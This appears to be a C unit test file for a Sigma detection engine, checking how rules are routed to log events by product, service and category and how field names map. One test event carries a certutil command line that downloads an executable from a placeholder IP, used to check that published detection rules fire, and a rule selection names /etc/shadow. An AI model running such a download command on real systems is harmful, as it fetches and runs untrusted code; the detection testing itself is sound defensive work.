/*
 * test_sigma_logsource.c - which rules apply to an event, and what its fields are called
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "detector/match/source_map.h"
#include "proto/base/timestamp.h"
#include "tests/support/match_case.h"

/* A rule's logsource and selection, an event's fields, and whether they match. */
struct routing {
    const char *logsource, *detection, *fields;
    int matches;
};

#define FIND "{s: {x: 1}, condition: s}"
#define NOT "{s: {x: 1}, condition: not s}"
#define WORD "{s: [evil], condition: s}"

static int
match(const struct routing *row)
{
    char text[1000], json[1000];
    struct ruleset *rules;
    int found;

    snprintf(text, sizeof(text), "title: T\nlogsource: %s\ndetection: %s\n", row->logsource,
             row->detection);
    snprintf(json, sizeof(json), "{\"event_type\":\"t\"%s%s}",
             row->fields[0] != '\0' ? "," : "", row->fields);
    rules = match_case_rules(text);
    found = match_case_count(rules, json);
    ruleset_destroy(&rules);
    return found;
}

static void
check(const struct routing *rows, size_t count)
{
    size_t wrong = 0;

    for (size_t i = 0; i < count; i++)
        if (match(&rows[i]) != rows[i].matches) {
            print_error("%s %s on %s: not %d\n", rows[i].logsource, rows[i].detection,
                        rows[i].fields, rows[i].matches);
            wrong++;
        }
    assert_int_equal(wrong, 0);
}

#define CHECK(rows) check(rows, sizeof(rows) / sizeof((rows)[0]))
#define SSHD "\"process.name\":\"sshd\""
#define CHANNEL(name) "\"winlog.provider_name\":\"p\",\"winlog.channel\":\"" name "\""
#define SYSMON CHANNEL("Microsoft-Windows-Sysmon/Operational")

static void
another_product_category_or_service_is_not_for_the_rule(void **state)
{
    static const struct routing rows[] = {
        { "{product: linux}", FIND, "\"x\":1," SSHD, 1 },
        { "{product: windows}", FIND, "\"x\":1," SSHD, 0 },
        { "{product: Linux}", FIND, "\"x\":1," SSHD, 1 },
        { "{service: sshd}", FIND, "\"x\":1," SSHD, 1 },
        { "{service: auth}", FIND, "\"x\":1," SSHD, 1 },
        { "{product: linux, service: auditd}", FIND, "\"x\":1," SSHD, 0 },
        { "{product: windows, service: security}", FIND, "\"x\":1," CHANNEL("Security"), 1 },
        { "{product: windows, service: system}", FIND, "\"x\":1," CHANNEL("Security"), 0 },
        { "{product: windows, service: security}", FIND, "\"x\":1," CHANNEL("SECURITY"), 1 },
        { "{product: windows, service: applocker}", FIND,
          "\"x\":1," CHANNEL("Microsoft-Windows-AppLocker/EXE and DLL"), 1 },
        { "{category: webserver}", FIND, "\"x\":1,\"http.request.method\":\"GET\"", 1 },
        { "{category: proxy}", FIND, "\"x\":1,\"http.request.method\":\"GET\"", 0 },
        { "{product: aws, service: cloudtrail}", FIND,
          "\"x\":1,\"cloud.provider\":\"aws\",\"aws.cloudtrail.event_name\":\"RunInstances\"", 1 },
        { "{product: okta, service: okta}", FIND, "\"x\":1,\"event.dataset\":\"okta.system\"", 1 },
        { "{product: gcp}", FIND, "\"x\":1,\"event.dataset\":\"okta.system\"", 0 },
    };

    (void)state;
    CHECK(rows);
}

static void
what_is_left_open_on_one_side_is_no_obstacle(void **state)
{
    static const struct routing rows[] = {
        { "{product: windows}", FIND, "\"x\":1", 1 },
        { "{category: c, service: s}", FIND, "\"x\":1", 1 },
        { "{definition: whatever}", FIND, "\"x\":1," SSHD, 1 },
        { "{product: linux, category: webserver}", FIND, "\"x\":1," SSHD, 1 },
        { "{service: nginx}", FIND, "\"x\":1,\"process.name\":\"unheard-of\"", 1 },
    };

    (void)state;
    CHECK(rows);
}

/* What is remembered of a value is used for that value only. */
static void
an_event_is_routed_as_if_it_were_the_first(void **state)
{
    static const char *const names[] = {
        "sshd", "sudo", "sshd", "sshd", "ssh", "sshd-session", "SSHD", "sshd-auth", "sshd ", "",
        "sudo", "a-program-with-a-name-that-is-longer-than-others", "sshd",
        "a-program-with-a-name-that-is-longer-than-sshd", "cron", "cro", "crond", "sshd",
    };
    struct ruleset *rules = match_case_rules(
        "title: T\nlogsource: {product: linux, service: sshd}\ndetection: " FIND "\n");
    size_t found = 0;

    (void)state;
    for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++) {
        char fields[200], json[300];
        const struct routing alone = { "{product: linux, service: sshd}", FIND, fields, 0 };
        int here;

        snprintf(fields, sizeof(fields), "\"x\":1,\"process.name\":\"%s\"", names[i]);
        snprintf(json, sizeof(json), "{\"event_type\":\"t\",%s}", fields);
        here = match_case_count(rules, json);
        assert_int_equal(here, match(&alone));
        found += (size_t)here;
    }
    assert_true(found >= 7 && found < sizeof(names) / sizeof(names[0]));
    ruleset_destroy(&rules);
}

/* Else a rule on processes would judge each event that names a program. */
static void
a_category_that_the_product_tells_apart_must_be_there(void **state)
{
    static const struct routing rows[] = {
        { "{product: windows, category: process_creation}", FIND,
          "\"x\":1," SYSMON ",\"event.code\":\"1\"", 1 },
        { "{product: windows, category: process_creation}", FIND,
          "\"x\":1," SYSMON ",\"event.code\":\"11\"", 0 },
        { "{product: windows, category: process_creation}", FIND,
          "\"x\":1," CHANNEL("Security") ",\"event.code\":\"4688\"", 1 },
        { "{product: windows, category: process_creation}", FIND,
          "\"x\":1," CHANNEL("Security") ",\"event.code\":\"4624\"", 0 },
        { "{product: windows, category: registry_event}", FIND,
          "\"x\":1," SYSMON ",\"event.code\":\"13\"", 1 },
        { "{product: windows, category: registry_set}", FIND,
          "\"x\":1," SYSMON ",\"event.code\":\"13\"", 1 },
        { "{product: windows, category: registry_delete}", FIND,
          "\"x\":1," SYSMON ",\"event.code\":\"13\"", 0 },
        { "{product: windows, category: registry_add}", FIND,
          "\"x\":1," SYSMON ",\"event.code\":\"12\"", 1 },
        { "{product: windows, category: ps_script}", FIND,
          "\"x\":1," CHANNEL("PowerShellCore/Operational") ",\"event.code\":4104", 1 },
        { "{product: linux, category: process_creation}", FIND, "\"x\":1," SSHD, 0 },
        { "{product: linux, category: process_creation}", FIND,
          "\"x\":1,\"auditd.type\":\"EXECVE\",\"process.command_line\":\"id\"", 1 },
        { "{product: macos, category: process_creation}", FIND, "\"x\":1", 1 },
    };

    (void)state;
    CHECK(rows);
}

/* "not selection" holds for every event of every other source. */
static void
a_rule_of_negations_needs_all_of_its_logsource(void **state)
{
    static const struct routing rows[] = {
        { "{product: zeek, service: rdp}", NOT, "", 0 },
        { "{product: zeek, service: rdp}", NOT, SSHD, 0 },
        { "{product: zeek, service: rdp}", NOT, "\"logsource.product\":\"zeek\"", 0 },
        { "{product: zeek, service: rdp}", NOT, "\"event.dataset\":\"zeek.rdp\"", 1 },
        { "{product: zeek, service: rdp}", NOT, "\"event.dataset\":\"zeek.rdp\",\"x\":1", 0 },
        { "{product: linux}", "{s: {x: null}, condition: s}", "", 0 },
        { "{product: linux}", "{s: {x: null}, condition: s}", SSHD, 1 },
        { "{product: linux}", "{s: {x|exists: false}, condition: s}", "", 0 },
        { "{product: linux}", "{s: {x: null, y: 1}, condition: s}", "\"y\":1", 1 },
        { "{product: linux}", "{s: {x|neq: 1}, condition: s}", "\"x\":2", 0 },
        { "{product: linux}", "{s: {y: 2}, f: {x: 1}, condition: s and not f}", "\"y\":2", 1 },
        { "{product: linux}", "{s: {y: 2}, f: [evil], condition: s and not f}", "\"y\":2", 1 },
        { "{product: linux}", "{s: {y: 2}, f: {x: 1}, condition: s or not f}", "\"y\":2", 0 },
        { "{definition: any}", NOT, "", 1 },
    };

    (void)state;
    CHECK(rows);
}

/* A Cisco rule of "erase", "delete" and the like is in a third of all logs. */
static void
a_rule_of_keywords_needs_a_part_of_its_logsource(void **state)
{
    static const struct routing rows[] = {
        { "{product: cisco, service: aaa}", WORD, "\"raw_log\":\"evil\"", 0 },
        { "{product: linux}", WORD, "\"raw_log\":\"evil\"", 0 },
        { "{product: linux}", WORD, "\"raw_log\":\"evil\"," SSHD, 1 },
        { "{product: linux, service: auth}", WORD, "\"raw_log\":\"evil\"," SSHD, 1 },
        { "{product: linux, service: syslog}", WORD, "\"raw_log\":\"evil\"," SSHD, 0 },
        { "{product: django, category: application}", WORD,
          "\"raw_log\":\"evil\",\"logsource.product\":\"Django\"", 1 },
        { "{product: django, category: application}", WORD,
          "\"raw_log\":\"evil\",\"logsource\":{\"product\":\"django\"}", 1 },
        { "{product: django, category: application}", WORD,
          "\"raw_log\":\"evil\",\"logsource.product\":\"flask\"", 0 },
        { "{product: linux}", "{s: [evil], t: {x: 1}, condition: s and t}",
          "\"raw_log\":\"evil\",\"x\":1", 1 },
        { "{product: linux}", "{s: [evil], t: [bad], condition: s and not t}",
          "\"raw_log\":\"evil\"", 0 },
        { "{definition: any}", WORD, "\"raw_log\":\"evil\"", 1 },
    };

    (void)state;
    CHECK(rows);
}

static void
names_of_fields_are_those_of_the_logsource(void **state)
{
    static const struct routing rows[] = {
        { "{category: dns}", "{s: {query: a.b}, condition: s}",
          "\"dns.question.name\":\"a.b\"", 1 },
        { "{product: zeek, service: dns}", "{s: {query: a.b, id.orig_h: 192.0.2.1}, condition: s}",
          "\"dns.question.name\":\"a.b\",\"source_ip\":\"192.0.2.1\"", 1 },
        { "{service: mysql}", "{s: {query: a.b}, condition: s}",
          "\"dns.question.name\":\"a.b\"", 0 },
        { "{service: auditd}", "{s: {name: /etc/shadow}, condition: s}",
          "\"file.path\":\"/etc/shadow\"", 1 },
        { "{product: windows}", "{s: {name: /etc/shadow}, condition: s}",
          "\"file.path\":\"/etc/shadow\"", 0 },
        { "{category: webserver}", "{s: {cs-method: GET, cs-uri-query|contains: x}, condition: s}",
          "\"http.request.method\":\"GET\",\"url.query\":\"q=x\"", 1 },
        { "{product: linux}", "{s: {user.name: root, source.ip: 192.0.2.1}, condition: s}",
          "\"username\":\"root\",\"source_ip\":\"192.0.2.1\"", 1 },
        /* what its event has by Windows' name is what the author saw */
        { "{product: windows}", "{s: {User|contains: AUTHORI}, condition: s}",
          "\"username\":\"SYSTEM\",\"winlog.event_data.User\":\"NT AUTHORITY\\\\SYSTEM\"", 1 },
        { "{product: linux}", "{s: {User: SYSTEM}, condition: s}",
          "\"username\":\"SYSTEM\",\"winlog.event_data.User\":\"NT AUTHORITY\\\\SYSTEM\"", 1 },
        { "{product: windows}", "{s: {NeverHeardOf: x}, condition: s}",
          "\"winlog.event_data.NeverHeardOf\":\"x\"", 1 },
        { "{product: windows}", "{s: {Image|endswith: '\\a.exe'}, condition: s}",
          "\"process.executable\":\"C:\\\\a.exe\"", 1 },
        { "{product: windows}", "{s: {EventID: 4625}, condition: s}", "\"event.code\":\"4625\"", 1 },
        { "{product: windows}", "{s: {event_type: u}, condition: s}",
          "\"winlog.event_data.event_type\":\"u\"", 0 },
        { "{product: windows}", "{s: {A|fieldref: B}, condition: s}",
          "\"winlog.event_data.A\":\"x\",\"winlog.event_data.B\":\"X\"", 1 },
    };

    (void)state;
    CHECK(rows);
}

static void
a_name_with_dots_is_a_path_and_arrays_on_it_are_followed(void **state)
{
    static const struct routing rows[] = {
        { "{product: x}", "{s: {a.b: 1}, condition: s}", "\"a\":{\"b\":1}", 1 },
        { "{product: x}", "{s: {a.b: 1}, condition: s}", "\"a.b\":1", 1 },
        { "{product: x}", "{s: {a.b.c: 1}, condition: s}", "\"a\":{\"b.c\":1}", 1 },
        { "{product: x}", "{s: {a.b.c: 1}, condition: s}", "\"a.b\":{\"c\":1}", 1 },
        { "{product: x}", "{s: {a.b: 2}, condition: s}", "\"a\":[{\"b\":1},{\"b\":2}]", 1 },
        { "{product: x}", "{s: {a.b: 3}, condition: s}", "\"a\":[{\"b\":1},{\"b\":2}]", 0 },
        { "{product: x}", "{s: {a.b: 2}, condition: s}", "\"a\":{\"b\":[1,2]}", 1 },
        { "{product: x}", "{s: {a.b: 2}, condition: s}", "\"a\":[{\"b\":[1]},{\"b\":[3,2]}]", 1 },
        { "{product: x}", "{s: {a.b|contains: e}, condition: s}", "\"a\":{\"b\":\"hello\"}", 1 },
        { "{product: x}", "{s: {a.b|exists: true}, condition: s}", "\"a\":{\"b\":null}", 1 },
        { "{product: x}", "{s: {x: 1, a.b: null}, condition: s}", "\"x\":1,\"a\":{\"c\":1}", 1 },
        { "{product: x}", "{s: {x: 1, a.b: null}, condition: s}", "\"x\":1,\"a\":{\"b\":1}", 0 },
        { "{product: x}", "{s: {a.b.c: 1}, condition: s}", "\"a\":{\"b\":1}", 0 },
        { "{product: x}", "{s: {ab: 1}, condition: s}", "\"a\":{\"b\":1}", 0 },
        { "{product: x}", "{s: {a: 1}, condition: s}", "\"a\":{\"b\":1}", 0 },
    };

    (void)state;
    CHECK(rows);
}

static void
any_source_is_for_every_event(void **state)
{
    struct ruleset *rules = match_case_rules("title: T\nlogsource: {product: linux}\n"
                                             "bongsu: {any_source: true}\n"
                                             "detection: {s: {x: 1}, condition: s}\n");

    (void)state;
    assert_int_equal(match_case_count(rules, "{\"event_type\":\"t\",\"x\":1,"
                                             CHANNEL("Security") "}"), 1);
    ruleset_destroy(&rules);
}

static void
a_logsource_may_be_given_for_all_events(void **state)
{
    static const struct logsource windows = { .product = { "Windows", 7 } };
    static const struct logsource linux_auth = { { "linux", 5 }, { NULL, 0 }, { "auth", 4 } };
    static const struct logsource open = { .product = { NULL, 0 } };
    struct ruleset *rules = match_case_rules(
        "title: A\nlogsource: {product: windows}\ndetection: " FIND "\n---\n"
        "title: B\nlogsource: {product: linux, service: auth}\ndetection: " FIND "\n---\n"
        "title: C\nlogsource: {product: linux, service: cron}\ndetection: " NOT "\n");
    struct matcher *matcher = ruleset_matcher(rules);
    static const char event[] = "{\"event_type\":\"t\",\"x\":1}";
    static const char other[] = "{\"event_type\":\"t\"," SSHD "}";

    (void)state;
    assert_int_equal(match_case_count(rules, event), 2);
    assert_int_equal(matcher_set_logsource(matcher, &windows), 0);
    assert_int_equal(match_case_count(rules, event), 1);
    assert_int_equal(match_case_count(rules, other), 0);
    assert_int_equal(matcher_set_logsource(matcher, &linux_auth), 0);
    assert_int_equal(match_case_count(rules, event), 1);
    assert_int_equal(matcher_set_logsource(matcher, &open), 0);
    assert_int_equal(match_case_count(rules, event), 2);
    assert_int_equal(match_case_count(rules, other), 1);
    assert_int_equal(matcher_set_logsource(matcher, NULL), 0);
    assert_int_equal(match_case_count(rules, other), 0);
    ruleset_destroy(&rules);
}

/* Senders can name what they like: answers for old names make room, and stay right. */
static void
very_many_logsources_keep_the_answers_right(void **state)
{
    struct ruleset *rules = match_case_rules(
        "title: A\nlogsource: {product: p7}\ndetection: " FIND "\n---\n"
        "title: B\nlogsource: {product: p900}\ndetection: " FIND "\n");

    (void)state;
    for (int i = 0; i < 2000; i++) {
        char json[200];

        snprintf(json, sizeof(json), "{\"event_type\":\"t\",\"x\":1,\"logsource.product\":"
                 "\"p%d\",\"process.name\":\"%s\"}", i % 1000, i % 3 == 0 ? "sshd" : "y");
        assert_int_equal(match_case_count(rules, json), i % 1000 == 7 || i % 1000 == 900);
    }
    ruleset_destroy(&rules);
}

/* Else a slip in the file would leave a detector without rules. */
static void
every_row_of_the_table_is_understood(void **state)
{
    struct field_table *fields = field_table_new();
    struct source_map *map = source_map_new(fields);

    (void)state;
    assert_non_null(map);
    assert_true(logsource_row_count > 100);
    for (size_t i = 0; i < logsource_row_count; i++) {
        struct text rest = text_of(logsource_rows[i].when);

        while (rest.ptr != NULL) {
            struct text term = text_trim(text_split(&rest, '&')), name = text_split(&term, '=');

            if (field_find(name) == NULL && !text_is(name, "event.dataset") &&
                !text_starts_with(name, "logsource."))
                fail_msg("%s: no such field", logsource_rows[i].when);
        }
    }
    source_map_destroy(&map);
    field_table_destroy(&fields);
}

/* All published rules: what is for an event finds it, and ordinary events meet none of the
 * thousands that are not for them. */
static void
published_rules_find_what_they_are_for_and_nothing_else(void **state)
{
    static const char certutil[] =
        "{\"event_type\":\"process_started\"," SYSMON ",\"event.code\":\"1\","
        "\"process.executable\":\"C:\\\\Windows\\\\System32\\\\certutil.exe\","
        "\"winlog.event_data.OriginalFileName\":\"CertUtil.exe\","
        "\"process.command_line\":\"certutil /urlcache -f http://192.0.2.1/a.exe a.exe\"}";
    static const char *const ordinary[] = {
        "{\"event_type\":\"user_deleted\",\"description\":\"delete, erase, format\"}",
        "{\"event_type\":\"log\",\"raw_log\":\"a line of no program\"}",
        "{\"event_type\":\"login_success\",\"source_ip\":\"192.0.2.1\",\"username\":\"bob\"}",
        "{\"event_type\":\"login_success\"," CHANNEL("Security") ",\"event.code\":\"4689\"}",
        "{\"event_type\":\"connection\",\"observer.product\":\"asa\",\"destination.port\":443}",
        "{\"event_type\":\"sshd\",\"raw_log\":\"Accepted publickey for bob\"," SSHD "}",
    };
    struct err err = { "" };
    struct ruleset *rules = ruleset_load("../shared/corpora/sigma/rules", &err);

    (void)state;
    if (rules == NULL) {
        print_message("%s\n", err.text);
        skip();
    }
    assert_true(match_case_count(rules, certutil) >= 2);
    for (size_t i = 0; i < sizeof(ordinary) / sizeof(ordinary[0]); i++)
        if (match_case_count(rules, ordinary[i]) != 0)
            fail_msg("%s meets %d rules", ordinary[i], match_case_count(rules, ordinary[i]));
    ruleset_destroy(&rules);
}

int
main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(another_product_category_or_service_is_not_for_the_rule),
        cmocka_unit_test(what_is_left_open_on_one_side_is_no_obstacle),
        cmocka_unit_test(an_event_is_routed_as_if_it_were_the_first),
        cmocka_unit_test(a_category_that_the_product_tells_apart_must_be_there),
        cmocka_unit_test(a_rule_of_negations_needs_all_of_its_logsource),
        cmocka_unit_test(a_rule_of_keywords_needs_a_part_of_its_logsource),
        cmocka_unit_test(names_of_fields_are_those_of_the_logsource),
        cmocka_unit_test(a_name_with_dots_is_a_path_and_arrays_on_it_are_followed),
        cmocka_unit_test(any_source_is_for_every_event),
        cmocka_unit_test(a_logsource_may_be_given_for_all_events),
        cmocka_unit_test(very_many_logsources_keep_the_answers_right),
        cmocka_unit_test(every_row_of_the_table_is_understood),
        cmocka_unit_test(published_rules_find_what_they_are_for_and_nothing_else),
    };
    struct err err = { "" };

    setenv("TZ", "Asia/Seoul", 1);
    if (timestamp_init(&err) != 0) {
        print_error("%s\n", err.text);
        return 1;
    }
    return cmocka_run_group_tests_name("sigma_logsource", tests, NULL, NULL);
}
